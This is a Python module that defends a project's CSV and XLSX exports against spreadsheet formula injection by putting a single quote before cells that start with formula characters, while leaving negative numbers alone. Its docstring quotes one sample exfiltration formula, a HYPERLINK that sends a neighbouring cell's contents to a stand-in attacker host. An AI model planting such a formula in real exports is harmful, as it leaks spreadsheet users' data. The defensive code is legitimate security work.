"""Spreadsheet formula injection: the one rule for every CSV and XLSX the project writes (the API's
``?format=csv``, the dashboard's table downloads, the admin's exports).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
spreadsheet programs (``=HYPERLINK("https://attacker.example/?leak="&A2,"x")`` sends the row next to it
away). As OWASP recommends, such a cell is prefixed with a single quote, which makes it text. Numbers
are left alone, also as text (``-12``, ``-1,250.50``: a negative number is a number, not a formula).
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_RE = re.compile(r"[+-]?(?:[0-9][0-9,]*)?(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as safe to put in a spreadsheet cell: a string a spreadsheet would run gets a leading ``'``."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if any(c.isdigit() for c in value[:2]) and NUMBER_RE.fullmatch(value):
        return value
    return "'" + value
